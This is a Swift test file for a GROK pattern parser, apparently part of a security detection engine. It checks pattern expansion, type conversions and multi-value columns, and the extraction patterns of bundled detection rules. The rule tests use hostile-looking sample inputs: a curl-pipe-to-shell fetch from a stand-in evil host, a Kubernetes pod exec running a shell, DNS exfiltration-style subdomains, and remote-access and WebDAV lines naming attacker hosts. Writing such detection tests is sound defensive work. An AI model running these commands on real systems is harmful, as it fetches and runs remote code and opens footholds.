import Testing
@testable import TriplineCore

/// ES|QL GROK: pattern expansion, columns and types, cases from grok.csv-spec (checked by hand)
/// and the GROK patterns of the bundled ES|QL rules.
@Suite struct GrokTests {
    static func run(_ pattern: String, _ input: String) throws -> [String: Value]? {
        let grok = try GrokPattern(pattern)
        guard let values = grok.match(Array(input.utf8)) else { return nil }
        return Dictionary(uniqueKeysWithValues: zip(grok.columns.map(\.name), values))
    }

    static func kw(_ text: String) -> Value { .keyword(Array(text.utf8)) }

    // MARK: grok.csv-spec

    @Test func simpleGrok() throws {
        #expect(try Self.run("%{WORD:b} .*", "foo bar") == ["b": Self.kw("foo")])
        // simpleGrokNoMatch: no match, every column null.
        let grok = try GrokPattern("%{NUMBER:b:int} .*")
        #expect(grok.columns == [GrokColumn(name: "b", type: .integer)])
        #expect(grok.match(Array("foo bar".utf8)) == nil)
    }

    @Test func complexPattern() throws {
        let pattern = "%{TIMESTAMP_ISO8601:date} %{IP:ip} %{EMAILADDRESS:email} %{NUMBER:num:int}"
        let grok = try GrokPattern(pattern)
        #expect(grok.columns.map(\.name) == ["date", "email", "ip", "num"])
        #expect(try Self.run(pattern, "1953-01-23T12:15:00Z 127.0.0.1 some.email@foo.com 42")
                == ["date": Self.kw("1953-01-23T12:15:00Z"), "ip": Self.kw("127.0.0.1"),
                    "email": Self.kw("some.email@foo.com"), "num": .long(42)])
    }

    @Test func typeConversions() throws {
        let pattern = "%{NUMBER:b:int} %{NUMBER:c:float} %{NUMBER:d:double} %{WORD:e:boolean}"
        let grok = try GrokPattern(pattern)
        #expect(grok.columns.map(\.type) == [.integer, .float, .double, .boolean])
        #expect(try Self.run(pattern, "12 15.5 15.6 true") == ["b": .long(12), "c": .double(15.5), "d": .double(15.6), "e": .bool(true)])
        #expect(try Self.run("%{NUMBER:x:long} %{WORD:y:boolean}", "-9000000000 nope") == ["x": .long(-9_000_000_000), "y": .bool(false)])
        // A float keeps float precision (ES promotes the float to double).
        #expect(try Self.run("%{NUMBER:c:float}", "15.6") == ["c": .double(Double(Float(15.6)))])
        // An int that does not convert fails the row (Elasticsearch warns and emits nulls).
        #expect(try Self.run("%{NUMBER:b:int}", "1.5") == nil)
        #expect(try Self.run("%{NUMBER:b:int}", "99999999999") == nil)
        // Unknown types are keyword.
        #expect(try GrokPattern("%{WORD:w:date}").columns == [GrokColumn(name: "w", type: .keyword)])
    }

    @Test func manualPattern() throws {
        let pattern = "(?<b>[0-9a-z]{4,11}) (?<c>[0-9a-z]{1,11})"
        #expect(try Self.run(pattern, "asdf bar") == ["b": Self.kw("asdf"), "c": Self.kw("bar")])
        #expect(try Self.run(pattern, "foo bar") == nil)  // manualPatternNoMatch
    }

    @Test func multiValues() throws {
        // multivalueOutput, shadowingInternal, shadowingWhenPushedDownPastRename2.
        #expect(try Self.run("%{WORD:b} %{WORD:b}", "foo bar") == ["b": .multi([Self.kw("foo"), Self.kw("bar")])])
        #expect(try Self.run("%{WORD:zip_parts} %{WORD:zip_parts}", "1016 ED") == ["zip_parts": .multi([Self.kw("1016"), Self.kw("ED")])])
        #expect(try Self.run("%{WORD:zip_parts} %{WORD:zip_parts}", "100-7014") == nil)
        #expect(try Self.run("Zürich, the %{WORD:city} %{WORD:foo} %{WORD:city} %{WORD:foo}", "Zürich, the largest city in Switzerland")
                == ["city": .multi([Self.kw("largest"), Self.kw("in")]), "foo": .multi([Self.kw("city"), Self.kw("Switzerland")])])
        // optionalMatchMv on one value: groups that do not take part add nothing.
        #expect(try Self.run("%{WORD:a}?\\s*%{WORD:b}?\\s*%{WORD:c}?", "Senior Python Developer")
                == ["a": Self.kw("Senior"), "b": Self.kw("Python"), "c": Self.kw("Developer")])
        #expect(try Self.run("%{WORD:a}?\\s*%{WORD:b}?\\s*%{WORD:c}?", "Accountant") == ["a": Self.kw("Accountant"), "b": .null, "c": .null])
    }

    @Test func searchedNotAnchored() throws {
        // matchAtTheBegin / matchAtTheEnd / matchInBetween.
        let pattern = "%{WORD:first_name} %{WORD:last_name} %{NUMBER:num:int}"
        let expected: [String: Value] = ["first_name": Self.kw("Georgi"), "last_name": Self.kw("Facello"), "num": .long(123)]
        #expect(try Self.run(pattern, "Georgi Facello 123 456") == expected)
        #expect(try Self.run(pattern, "123 Georgi Facello 123") == expected)
        #expect(try Self.run(pattern, "123 Georgi Facello 123 456") == expected)
        #expect(try Self.run("%{WORD} %{WORD:last_name}", "Georgi Facello") == ["last_name": Self.kw("Facello")])
        #expect(try Self.run("Ge(?<emp_no>[a-z]{2})gi", "Georgi") == ["emp_no": Self.kw("or")])
        #expect(try Self.run("%{WORD:method} %{NOTSPACE:path} %{NUMBER:code:int}", "POST /login 404")
                == ["method": Self.kw("POST"), "path": Self.kw("/login"), "code": .long(404)])
    }

    @Test func expansionErrors() throws {
        #expect(throws: RegexError.self) { try GrokPattern("%{NOPE:x}") }
        #expect(throws: RegexError.self) { try GrokPattern("%{A}", library: ["A": "x%{B}", "B": "%{A}"]) }
        #expect(throws: RegexError.self) { try GrokPattern("(?<x>a") }
        // Not a reference: left as regex text.
        #expect(try GrokPattern("%{WORD:}x", library: [:]).columns.isEmpty)
        #expect(try GrokPattern("%{A:b}", library: ["A": "[0-9]+"]).columns == [GrokColumn(name: "b", type: .keyword)])
    }

    /// Every pattern of the library compiles, except the one whose lookahead spans more than
    /// fixed characters (a linear matcher refuses it with a clear error).
    @Test func libraryPatternsCompile() throws {
        var failures: [String] = []
        for name in GrokPatterns.ecsV1.keys.sorted() where name != "SYSLOGPAMSESSION" {
            do { _ = try GrokPattern("%{\(name)}") } catch { failures.append("\(name): \(error)") }
        }
        #expect(failures.isEmpty, "\(failures.joined(separator: "\n"))")
        #expect(throws: RegexError.self) { try GrokPattern("%{SYSLOGPAMSESSION}") }
    }

    // MARK: The rule set's GROK patterns

    @Test func ruleSetPatterns() throws {
        let url = "%{URIPROTO:url_protocol}://%{URIHOST:dest_host}"
        #expect(try Self.run(url, "curl -s https://evil.example.com:8443/x.sh | sh")
                == ["url_protocol": Self.kw("https"), "dest_host": Self.kw("evil.example.com:8443")])
        let bare = "^(?:%{URIPROTO:url_protocol_bare}://)?%{URIHOST:dest_host_bare}(?:/%{GREEDYDATA})?$"
        #expect(try Self.run(bare, "10.0.0.5/payload") == ["url_protocol_bare": .null, "dest_host_bare": Self.kw("10.0.0.5")])
        #expect(try Self.run(bare, "http://a.b.c/") == ["url_protocol_bare": Self.kw("http"), "dest_host_bare": Self.kw("a.b.c")])
        let exec = "%{DATA}/exec\\?%{DATA:raw_commands}&(?:container|stdin|stdout|stderr)=%{GREEDYDATA}"
        #expect(try Self.run(exec, "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=id&container=web&stdin=true")
                == ["raw_commands": Self.kw("command=sh&command=-c&command=id")])
        #expect(try Self.run("%{INT:chunk_index}-%{DATA:chunk_payload}\\.%{GREEDYDATA:Esql.base_domain}", "12-aGVsbG8.exfil.example.com")
                == ["chunk_index": Self.kw("12"), "chunk_payload": Self.kw("aGVsbG8"), "Esql.base_domain": Self.kw("exfil.example.com")])
        #expect(try Self.run("accessKeyId=%{NOTSPACE:issued_key_id},", "{accessKey={accessKeyId=AKIAEXAMPLE123, status=Active}}")
                == ["issued_key_id": Self.kw("AKIAEXAMPLE123")])
        #expect(try Self.run("[Cc]ontent=(?<script_b64>[A-Za-z0-9+/=]+)", "{lifecycleConfigName=x, content=IyEvYmluL2Jhc2g=}")
                == ["script_b64": Self.kw("IyEvYmluL2Jhc2g=")])
        #expect(try Self.run(#"modelId=(?<Esql.model_id>[^,}\]]+)"#, "{modelId=anthropic.claude-v2, body=x}")
                == ["Esql.model_id": Self.kw("anthropic.claude-v2")])
        #expect(try Self.run(#"(?:[^.]+\.)+(?<parent_domain>[^.]+\.[^.]+)$"#, "a.b.example.com") == ["parent_domain": Self.kw("example.com")])
        #expect(try Self.run(#".*\\\\(?<Esql.inbox_rule_name>.*)$"#, #"Mailbox\\Inbox\\..."#) == ["Esql.inbox_rule_name": Self.kw("...")])
        #expect(try Self.run(#":(?<Esql.caller_account>[0-9]{12}):"#, "arn:aws:iam::123456789012:user/bob") == ["Esql.caller_account": Self.kw("123456789012")])
        #expect(try Self.run(#"e=Access&y=Guest&h=(?<Esql.screenconnect_server>[^&]+)&p"#, "ScreenConnect.exe ?e=Access&y=Guest&h=relay.evil.io&p=443")
                == ["Esql.screenconnect_server": Self.kw("relay.evil.io")])
        #expect(try Self.run(#"(?i:https?)://(?:[^/@\s]+@)?(?<Esql.server_webdav_server>[a-zA-Z0-9-]+(?:\.[a-zA-Z0-9-]+)*)"#,
                             #"rundll32 davclntr.dll,DavSetCookie HTTPS://user@files.evil.net@SSL/x"#)
                == ["Esql.server_webdav_server": Self.kw("files.evil.net")])
        #expect(try Self.run("ScriptBlock ID: (?<Esql.script_block_id>.+)", "x\nScriptBlock ID: 1234-ab\nPath:") == ["Esql.script_block_id": Self.kw("1234-ab")])
        // Oniguruma's ^ and $ are line anchors; (?m) there is dot-all.
        let san = #"(?im)^[ \t]*SAN[ \t]*:[ \t]*dns[ \t]*=[ \t]*(?<Esql.attributes_san_value>[^\r\n]+)\r?$"#
        #expect(try Self.run(san, "CertificateTemplate:User\r\nSAN:dns=dc01.corp.local\r\nccm:x") == ["Esql.attributes_san_value": Self.kw("dc01.corp.local")])
        #expect(try Self.run(#".*roleArn=(?<Esql.aws_cloudtrail_request_parameters_role_arn>arn:aws[a-z-]*:iam::[0-9]{12}:role/[^,}]+).*"#,
                             "{roleArn=arn:aws:iam::123456789012:role/ml-exec, notebookInstanceName=nb}")
                == ["Esql.aws_cloudtrail_request_parameters_role_arn": Self.kw("arn:aws:iam::123456789012:role/ml-exec")])
    }
}
